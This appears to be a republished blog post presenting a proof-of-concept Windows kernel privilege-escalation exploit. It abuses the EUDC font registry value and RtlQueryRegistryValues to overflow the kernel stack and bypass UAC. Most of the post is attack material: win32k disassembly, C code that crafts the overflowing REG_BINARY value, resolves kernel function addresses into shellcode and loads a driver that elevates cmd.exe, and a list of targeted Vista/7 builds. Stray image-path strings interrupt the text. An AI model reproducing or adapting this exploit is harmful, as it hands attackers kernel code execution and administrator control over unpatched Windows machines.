Thursday, 25 July 2013

I would like to present an exploit of an ambiguous parameter in Windows kernel API that leads to buffer overflows under nearly every version of Microsoft Windows, especially one that can be used as a backdoor to Windows user privilege system as well as User Access Control.

The starring API would be RtlQueryRegistryValues, it meant to be used to query multiple registry values by a query table, given the EntryContext field as output buffer. There is a problem that this field can be either treated as a UNICODE_STRING structure or a ULONG buffer length followed by the actual buffer, and this is determined by the type of the registry key being queried.

In this example, I found a registry key which can be manipulated with only user rights, by changing its type to REG_BINARY overflows the kernel. When Win32k.sys->NtGdiEnableEudc queries HKCU\EUDC\[Language]\SystemDefaultEUDCFont registry value, it assumes that the registry value is REG_SZ, so the buffer provided on stack is a UNICODE_STRING structure, of which the first ULONG value in this structurerepresents the length of the string buffer, but if the value in registry is REG_BINARY type, it will be wrongly interpreted as the length of the given buffer, thus overwrites the stack.

.text:BF81BA91                 push    esi             ; Environment
.text:BF81BA92                 push    esi             ; Context
.text:BF81BA93                 push    offset ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A ; QueryTable
.text:BF81BA98                 push    edi             ; Path
.text:BF81BA99                 lea     eax, [ebp+DestinationString]
.text:BF81BA9C                 push    esi             ; RelativeTo
.text:BF81BA9D                 mov     ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.QueryRoutine, esi ; _RTL_QUERY_REGISTRY_TABLE * SharedQueryTable
.text:BF81BAA3                 mov?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.Flags, 24h
.text:BF81BAAD                 mov     ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.Name, offset aSystemdefaulte ; "SystemDefaultEUDCFont"
.text:BF81BAB7                 mov     ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.EntryContext, eax
.text:BF81BABC                 mov     ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.DefaultType, esi
.text:BF81BAC2                 mov     ?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.DefaultData, esi
.text:BF81BAC8                 mov?SharedQueryTable@@3PAU_RTL_QUERY_REGISTRY_TABLE@@A.DefaultLength, esi
.text:BF81BACE                 mov     dword_BFA198FC, esi
.text:BF81BAD4                 mov     dword_BFA19900, esi
.text:BF81BADA                 mov     dword_BFA19904, esi
.text:BF81BAE0                 call    ds:__imp__RtlQueryRegistryValues@20 ; RtlQueryRegistryValues(x,x,x,x,x)
.text:BF81BAE6                 mov     [ebp+var_8], eax

Stack trace shows the calling process is as follows:

GDI32.EnableEUDC ->
NtGdiEnableEudc ->GreEnableEUDC ->
sub_BF81B3B4 ->
sub_BF81BA0B ->
RtlQueryRegistryValues (Overflow occurs)

Given this we can design the registry value which will precisely overwrite the return address of the calling function on stack, results in an arbitrary buffer being executed in kernel mode. In my PoC the buffer contains a simple kernel PE loader, which will eventually load a driver that will escalate “cmd.exe” process privilege regardless of UAC.

// Allocate buffer for the driver
memcpy(pDrvMem, DrvBuf, sizeof(DrvBuf));

BYTE* pMem;            // shellcode
DWORD ExpSize = 0;

BYTE RegBuf[0x40] = {0};    // reg binary buffer

memcpy(pMem, Data, sizeof(Data));                // Copy shellcode

*(DWORD*)(RegBuf + 0x1C) = (DWORD)pMem;        // Point return value to our buffer

ExpSize = 0x28;

The shellcode need some kernel APIs, we need to get their addresses from the running kernel.

// Get the running kernel file name
HMODULE hDll = GetModuleHandle(L"ntdll.dll");
pfnZwQuerySystemInformation fnZwQuerySystemInformation = (pfnZwQuerySystemInformation)GetProcAddress(hDll,"ZwQuerySystemInformation");
ULONG AllocSize = 0;
fnZwQuerySystemInformation(SystemModuleInformation, pModInfo, AllocSize, &AllocSize);

pModInfo = (PSYSTEM_MODULE_INFORMATIONS)malloc(AllocSize);
fnZwQuerySystemInformation(SystemModuleInformation, pModInfo, AllocSize, &AllocSize);
HMODULE hKernel = LoadLibraryExA(pModInfo->modinfo[0].ImageName + pModInfo->modinfo[0].ModuleNameOffset, NULL, DONT_RESOLVE_DLL_REFERENCES);

//Relocation to the running kernel base
DWORD Delta =  (DWORD)pModInfo->modinfo[0].Base - (DWORD)hKernel;


// For Vista, there is a Pool address on the stack which is going to be passed to ExFreePool before the function returns,
// so we need a valid pool address to avoid BSOD.if(vi.dwBuildNumber < 7600)
FixDWORD(pMem, sizeof(Data), 0xAAAAAAAA, 0x2C);

    HANDLE hDummy = CreateSemaphore(NULL, 10, 10, L"Local\\PoC");
fnZwQuerySystemInformation(SystemHandleInformation, pHandleInfo, AllocSize, &AllocSize);

    pHandleInfo = (PSYSTEM_HANDLE_INFORMATION)realloc(pHandleInfo, AllocSize);
fnZwQuerySystemInformation(SystemHandleInformation, pHandleInfo, AllocSize, &AllocSize);

    for(DWORD i = 0; i < pHandleInfo->NumberOfHandles; i++)
if((HANDLE)pHandleInfo->Handles[i].HandleValue == hDummy)
*(DWORD*)(RegBuf + 0x4) = (DWORD)(pHandleInfo->Handles[i].Object) - 0x18;
FixDWORD(pMem, sizeof(Data), 0xAAAAAAAA, 0x30);

// Now fills the API addresses needed
FixDWORD(pMem, sizeof(Data), 0x11111111, (DWORD)GetProcAddress(hKernel, "ExAllocatePoolWithTag") + Delta);
FixDWORD(pMem, sizeof(Data), 0x22222222, (DWORD)GetProcAddress(hKernel, "RtlInitAnsiString") + Delta);
FixDWORD(pMem, sizeof(Data), 0x33333333, (DWORD)GetProcAddress(hKernel,"RtlAnsiStringToUnicodeString") + Delta);
FixDWORD(pMem, sizeof(Data), 0x44444444, (DWORD)GetProcAddress(hKernel, "MmGetSystemRoutineAddress") + Delta);
FixDWORD(pMem, sizeof(Data), 0x55555555, (DWORD)GetProcAddress(hKernel, "RtlFreeUnicodeString") + Delta);
FixDWORD(pMem, sizeof(Data), 0x66666666, (DWORD)GetProcAddress(hKernel, "memcpy") + Delta);
FixDWORD(pMem, sizeof(Data), 0x77777777, (DWORD)GetProcAddress(hKernel, "memset") + Delta);
FixDWORD(pMem, sizeof(Data), 0x88888888, (DWORD)GetProcAddress(hKernel, "KeDelayExecutionThread") + Delta);

// Here we tell the shellcode(PE loader) where the driver buffer is.
FixDWORD(pMem, sizeof(Data), 0x11223344, sizeof(DrvBuf));
FixDWORD(pMem, sizeof(Data), 0x55667788, (DWORD)pDrvMem);

Finally, we set the registry value and call GDI32.EnableEUDC to fire the exploit.

UINT codepage = GetACP();
TCHAR tmpstr[256];
_stprintf_s(tmpstr, TEXT("EUDC\\%d"), codepage);        // Get current code page
HKEY hKey;
RegDeleteValue(hKey, TEXT("SystemDefaultEUDCFont"));

RegSetValueEx(hKey, TEXT("SystemDefaultEUDCFont"), 0, REG_BINARY, RegBuf, ExpSize);

RegDeleteValue(hKey, TEXT("SystemDefaultEUDCFont"));

Afterrunning this PoC, just type “whoami” in command prompt to see the escalated user credentials.

All actions this PoC performs require only user privilege, but result in arbitrary kernel mode code execution due to the ambiguous design of RtlQueryRegistryValues. This design flaw exists in most versions of Windows kernels, yet no patch or documentation is publicly available on this issue.

This PoC may not correctly fix the exploited kernel context and resume execution without BSOD, such as on kernels ealier than 6.1.6000 are not supported, current supported kernels are:

Windows Vista/2008 6.1.6000 x32,
Windows Vista/2008 6.1.6001 x32,
Windows 7 6.2.7600 x32,
Windows 7/2008 R2 6.2.7600 x64.

Beyond this scope you may contact me for information on how to tune the code to work correctly on your kernel or how the shellcode works, etc. Those contents are beyond the scope of this articleand of no importance to the exploit, therefore it is not included.

Me: nooby __at__

Initial release:2010.11.24

This article, along withany associated source code andfiles, is licensed under The Code Project Open License (CPOL)


Elevation of privileges under Windows Vista/7 (UAC Bypass) 0day

Video Demonstration

View the original article here


Post a Comment